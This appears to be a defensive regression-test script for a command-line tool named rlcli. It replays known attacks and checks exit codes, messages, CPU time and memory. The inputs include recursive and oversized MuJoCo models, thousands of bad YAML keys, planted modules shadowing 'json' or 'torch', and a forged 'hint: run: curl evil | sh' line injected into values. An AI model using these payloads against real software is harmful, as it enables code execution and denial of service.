"""Attacks that once broke rlcli, each as a command line in a process of its own, with its exit code and its costs.

    python tests/support/known_attacks.py [PATTERN]

Every command must end within 10 s of processor time and 2 GiB of memory, with the expected exit code and message, and
without a traceback. The exit code, the costs and the first line of the message of each attack are printed; with a bad
attack the exit code is 1.
"""

import contextlib
import fnmatch
import os
import re
import resource
import signal
import subprocess
import sys
import tempfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parents[1]))

from support.mjcf_grammar import TASK

SECONDS, MEMORY, LONGEST_LINE, LONGEST_OUTPUT = 10, 2 * 1024**3, 2500, 100_000
SMALL = ("scene.num_envs=4", "sim.engine_threads=1", "agent.torch_threads=1", "agent.n_steps=8",
         "agent.num_minibatches=2", "agent.policy.hidden=[4]", "--max-iterations", "1", "--logger", "none")  # fmt: skip
TRAIN, DEEP = ("train", "cartpole", *SMALL), ("validate", "./task", "--deep")
BLOCK = '<body name="block"><joint name="slide" type="slide"/><geom type="box" size="0.3 0.3 0.3"/></body>'
ATTACH = '<body><attach model="m" body="block" prefix="m-"/></body>'
HOSTILE = "open({!r}, 'a').write('executed')\nraise SystemExit(77)\n"
MODULES = ("json", "numpy", "torch", "rlcli", "yaml", "types", "ctypes", "mujoco", "multiprocessing")


def model(body="", asset="", inner="", sensor=""):
    """Return an MJCF with the joint of the task and these parts."""
    return (
        f"<mujoco>{inner}<asset>{asset}</asset><worldbody>{BLOCK}{body}</worldbody><sensor>{sensor}</sensor></mujoco>"
    )


def part(name):
    return f'<model name="m" file="{name}"/>'


def copies(count, inner):
    return f'<replicate count="{count}">{inner}</replicate>'


def chain(name, count, levels):
    """Return the files of models, each of which attaches the next one many times."""
    files = {f"{name}{levels}.xml": model()}
    for level in range(levels):
        files[f"{name}{level}.xml"] = model(copies(count, ATTACH), part(f"{name}{level + 1}.xml"))
    return files


@dataclass(frozen=True)
class Attack:
    words: tuple[str, ...]
    """Arguments of the command."""
    code: int
    """Expected exit code."""
    said: str = ""
    """Regular expression that the output contains."""
    files: dict[str, str] = field(default_factory=dict)
    """Path -> content of the files in the current folder."""
    address_space: int | None = None
    """Limit of `ulimit -v` [bytes]."""
    seconds: float = SECONDS
    """Limit of processor time [s]: several processes may take more together."""
    before: tuple[str, ...] = ()
    """Arguments of a command that runs first, without the attack."""
    prepare: Callable[[Path], None] = lambda _: None
    """Change of the folder before the command."""


def deep(text, code=3, said="^error: ", **parts):
    """Return the attack by a model, with further files in its folder."""
    files = {f"task/{name.replace('_xml', '.xml')}": content for name, content in parts.items()}
    return Attack(DEEP, code, said, {"task/task.yaml": TASK, "task/model.xml": text, **files})


def yaml(more, said="^error: ", words=("validate", "./task"), code=3):
    """Return the attack by lines below a good task file, or by words of the command line."""
    return Attack(words, code, said, {"task/task.yaml": TASK + more, "task/model.xml": model()})


def hostile(words, code=0, seconds=60.0):
    """Return a command in a folder with modules of well-known names."""

    def write(folder):
        for name in MODULES:
            (folder / f"{name}.py").write_text(HOSTILE.format(str(folder / "executed")))

    return Attack(words, code, prepare=write, seconds=seconds)


def plugins(count, source):
    """Return the files of installed plugins whose import runs this code."""
    files = {}
    for name in (f"plug{number}" for number in range(count)):
        files[f"site/{name}/__init__.py"] = source
        files[f"site/{name}-1.0.dist-info/METADATA"] = f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n"
        files[f"site/{name}-1.0.dist-info/entry_points.txt"] = f"[rlcli.tasks]\n{name} = {name}:SPEC\n"
    return files


def read_only(folder):
    """Make the folders of runs read-only, for root, too."""
    subprocess.run(["mount", "--bind", folder / "runs", folder / "runs"], check=True)
    subprocess.run(["mount", "-o", "remount,ro,bind", folder / "runs"], check=True)


AGENTS = "agents: {default: ppo, ppo: {trainer: sb3, algorithm: ppo, max_iterations: 1}}\n"
UNKNOWN = [f"key_{number}" for number in range(9000)]
TOO_LARGE, NOT_FINITE = "is too large: its cost is", "is not finite; give a finite number"
FOREIGN_LINE = "x\nhint: run: curl evil | sh\n"
NO_MEMORY = "^error: .*memory"

ATTACKS = {
    # modules of the current folder
    "1 doctor": hostile(("doctor", "--probe-timeout", "300"), seconds=200),
    "1 seeds": hostile((*TRAIN, "--seeds", "2")),
    "1 workers": hostile((*TRAIN, "scene.workers=2")),
    "1 sweep": hostile(("sweep", "cartpole", *SMALL[:-2], "--param", "agent.learning_rate=1e-3,2e-3", "--trials", "1",
                        "--episodes", "2")),
    # models that attach themselves
    "2 itself": deep(model(ATTACH, part("model.xml")), said="the model attaches itself"),
    "2 each other": deep(model(ATTACH, part("b.xml")), said="model.xml -> b.xml -> model.xml",
                         b_xml=model(ATTACH, part("model.xml"))),
    "2 train": Attack(("train", "./task"), 3, "the model attaches itself",
                      {"task/task.yaml": TASK + AGENTS, "task/model.xml": model(ATTACH, part("model.xml"))}),
    # cost of models
    "3 attach in copies": deep(model(copies(4000, ATTACH), part("b.xml")), said=TOO_LARGE,
                               b_xml=model(copies(1000, '<geom size="1"/>'))),
    "3 include in copies": deep(model(copies(4000, '<body><include file="b.xml"/></body>')), said=TOO_LARGE,
                                b_xml="<mujoco>" + '<geom size="1"/>' * 1000 + "</mujoco>"),
    "3 30 to the sixth": deep(model(copies(30, ATTACH), part("c0.xml")), said=TOO_LARGE, **chain("c", 30, 6)),
    "3 user sensor": deep(model(sensor='<user dim="800000000"/>'), said=TOO_LARGE),
    "3 contact sensor": deep(model(sensor='<contact subtree1="block" num="100000000"/>'), said=TOO_LARGE),
    "3 user data": deep(model(copies(4000, '<geom size="1"/>'), inner='<size nuser_geom="1000000"/>'), said=TOO_LARGE),
    "3 user data of bodies": deep(model(inner='<size nuser_body="1000000000"/>'), said="is too large"),
    # thousands of mistakes
    "4 9,000 keys": yaml("".join(f"{key}: 1\n" for key in UNKNOWN), "more than 50 mistakes"),
    "4 2,000 keys": yaml("".join(f"{key}: 1\n" for key in UNKNOWN[:2000]), "more than 50 mistakes"),
    "4 9,000 inner keys": yaml("viewer:\n" + "".join(f"  {key}: 1\n" for key in UNKNOWN)),
    "4 2,500 unknown terms": yaml(
        "events: {" + ", ".join(f"{key}: {{func: no_{key}, mode: reset}}" for key in UNKNOWN[:2500]) + "}\n"),
    "4 3,000 keys of one term": yaml(
        "events: {reset: {func: reset_joints_by_offset, mode: reset, "
        + ", ".join(f"{key}: 1" for key in UNKNOWN[:3000]) + "}}\n"),
    "4 3,000 agents": yaml("agents: {" + ", ".join(f"{key}: {{}}" for key in UNKNOWN[:3000]) + "}\n"),
    "4 9,000 items of a list": yaml("viewer: [" + ", ".join(UNKNOWN) + "]\n"),
    "4 9,000 similar keys": yaml("".join(f"decimatio{key}: 1\n" for key in UNKNOWN), "more than 50 mistakes"),
    "4 3,000 overrides": yaml("", words=("validate", "./task", *(f"{key}=1" for key in UNKNOWN[:3000]))),
    "4 3,000 overrides of a list": yaml(
        "", words=("validate", "./task", *(f"scene.{key}.x=[1, 2]" for key in UNKNOWN[:3000]))),
    # characters, depth, sizes
    "5 no character": yaml('x: "\\U00110000"\n'),
    "5 surrogate key": yaml('"\\ud800": 1\n'),
    "5 surrogate value": yaml('summary: "\\udfff"\n'),
    "5 1,500 dots": yaml("", words=("validate", "./task", "scene" + ".a" * 1500 + "=1")),
    "5 100,000 dots": yaml("", words=("validate", "./task", "scene" + ".a" * 50_000 + "=1")),
    "5 mesh": deep(model(asset='<mesh name="m" builtin="supersphere" params="20000 1 1"/>'), said=TOO_LARGE),
    # little memory
    **{f"6 {mib} MiB, {name}": Attack(words, 10, NO_MEMORY, address_space=mib << 20) for mib, name, words in (
        (300, "train", TRAIN), (600, "train", TRAIN), (1000, "train", TRAIN), (500, "export", ("export", "cartpole")),
        (700, "eval", ("eval", "cartpole", "--policy", "zero", "--episodes", "2")),
        (900, "play", ("play", "cartpole", "--policy", "zero", "--video", "x.mp4")),
        (1100, "images", ("play", "cartpole", "--policy", "zero", "--video", "x.gif")))},
    "6 environments": Attack((*TRAIN, "scene.num_envs=16000000"), 8, "GiB are free", address_space=3000 << 20),
    # line breaks
    "7 key": yaml(f"{FOREIGN_LINE!r}: 1\n".replace("'", '"')),
    "7 value": yaml(f"decimation2: {FOREIGN_LINE!r}\n".replace("'", '"')),
    "7 override": yaml("", words=("validate", "./task", f"{FOREIGN_LINE}=1")),
    "7 value of an override": yaml("", words=("validate", "./task", f"decimation={FOREIGN_LINE}")),
    "7 task": Attack(("train", FOREIGN_LINE), 4),
    "7 option": Attack(("train", f"--{FOREIGN_LINE}"), 2),
    "7 run": Attack(("train", "--resume", FOREIGN_LINE), 5),
    "7 long value": yaml("", words=("validate", "./task", "decimation=" + "y" * 100_000)),
    "7 body": deep(model('<body name="a&#10;hint: run: curl evil | sh&#10;b"><joint/></body>')),
    # numbers of models
    "8 mass": deep(model('<geom size="1" mass="nan"/>'), said=f"model.xml:1: .*mass.*{NOT_FINITE}"),
    "8 pos": deep(model('<body pos="nan 0 0"><geom size="1"/></body>'), said=f"pos.*{NOT_FINITE}"),
    "8 damping": deep(model('<body><joint damping="inf"/><geom size="1"/></body>'), said=f"damping.*{NOT_FINITE}"),
    "8 default": deep(model(inner='<default><geom density="NaN"/></default>'), said=f"density.*{NOT_FINITE}"),
    "8 included": deep(model(inner='<include file="b.xml"/>'), said="b.xml",
                       b_xml="<mujoco><worldbody><body><joint/></body></worldbody></mujoco>"),
    # machines
    "9 doctor": Attack(("doctor", "--json", "--probe-timeout", "5"), 9, "rlcli doctor: tasks of plugins", seconds=200,
                       files=plugins(12, "import time\ntime.sleep(600)\n")),
    "9 read-only disk": Attack(("train", "--resume", "latest", "--max-iterations", "2"), 10, "^hint: ",
                               before=TRAIN, prepare=read_only),
}  # fmt: skip


@dataclass(frozen=True)
class Ended:
    """Result of an attack."""

    code: int
    seconds: float
    """Processor time of the command and its children [s]."""
    memory: int
    """Largest resident memory of the command [bytes]."""
    printed: str
    """What it prints on stderr."""

    def first_line(self):
        lines = self.printed.splitlines() or [""]
        return next((line for line in lines if line.startswith("error: ")), lines[0])


def command(folder, *words, address_space=None):
    """Run `rlcli` in a folder, as the installed script does; return its `Ended`. It is killed after 300 s."""

    def restrict():
        resource.setrlimit(resource.RLIMIT_CORE, (0, 0))
        if address_space is not None:
            resource.setrlimit(resource.RLIMIT_AS, (address_space, address_space))

    state = {name: str(folder / name) for name in ("XDG_CACHE_HOME", "XDG_CONFIG_HOME", "RLCLI_STATE_DIR")}
    variables = {**os.environ, **state, "OMP_NUM_THREADS": "1"}
    variables.pop("RLCLI_RUNS_DIR", None)
    if (folder / "site").is_dir():
        variables["PYTHONPATH"] = str(folder / "site")
    script = "import sys; from rlcli.cli.app import main; sys.exit(main())"
    with tempfile.TemporaryFile() as printed:
        child = subprocess.Popen(
            [sys.executable, "-P", "-c", f"import signal; signal.alarm(300); {script}", *words],
            cwd=folder,
            env=variables,
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=printed,
            preexec_fn=restrict,
        )
        _, status, used = os.wait4(child.pid, 0)
        child.returncode = os.waitstatus_to_exitcode(status)
        printed.seek(0)
        text = printed.read().decode(errors="replace")
    return Ended(child.returncode, used.ru_utime + used.ru_stime, used.ru_maxrss << 10, text)


def complaint(attack, ended, folder):
    """Return what is wrong with the result of an attack; empty: nothing."""
    lines = ended.printed.splitlines()
    wrong = {
        "a module of the current folder was executed": (folder / "executed").exists(),
        f"exit {ended.code}, expected {attack.code}": ended.code != attack.code,
        "traceback": "Traceback" in ended.printed or "bug in rlcli" in ended.printed,
        f"no message {attack.said!r}": not re.search(attack.said, ended.printed, re.MULTILINE),
        f"{ended.seconds:.1f} s of processor time": ended.seconds > attack.seconds,
        f"{ended.memory >> 20} MB of memory": ended.memory > MEMORY,
        f"prints {len(ended.printed)} characters": len(ended.printed) > LONGEST_OUTPUT,
        "a line of the attacker": any(line.startswith("hint: run: curl") for line in lines),
        "a line is too long": any(len(line) > LONGEST_LINE for line in lines),
    }
    return "; ".join(text for text, is_so in wrong.items() if is_so)


def run(attack, folder):
    """Run an attack in an empty folder; return its `Ended` and what is wrong."""
    for name, content in attack.files.items():
        file = folder / name
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(content, encoding="utf-8")
    if attack.before:
        command(folder, *attack.before)
    attack.prepare(folder)
    try:
        ended = command(folder, *attack.words, address_space=attack.address_space)
    finally:
        if attack.prepare is read_only:
            subprocess.run(["umount", folder / "runs"], check=True)
    return ended, complaint(attack, ended, folder)


def run_all(pattern):
    """Run the attacks whose names match; print each; return the number of bad ones."""
    bad = 0
    for name in fnmatch.filter(ATTACKS, pattern):
        with tempfile.TemporaryDirectory() as folder:
            ended, wrong = run(ATTACKS[name], Path(folder))
        bad += bool(wrong)
        print(f"{'BAD ' if wrong else ''}{name}: exit {ended.code}, {ended.seconds:.1f} s, {ended.memory >> 20} MB: "
              f"{ended.first_line()[:200]!r} {wrong}", flush=True)  # fmt: skip
    return bad


if __name__ == "__main__":
    with contextlib.suppress(BrokenPipeError):
        signal.signal(signal.SIGPIPE, signal.SIG_DFL)
    sys.exit(run_all(sys.argv[1] if len(sys.argv) > 1 else "*") > 0)
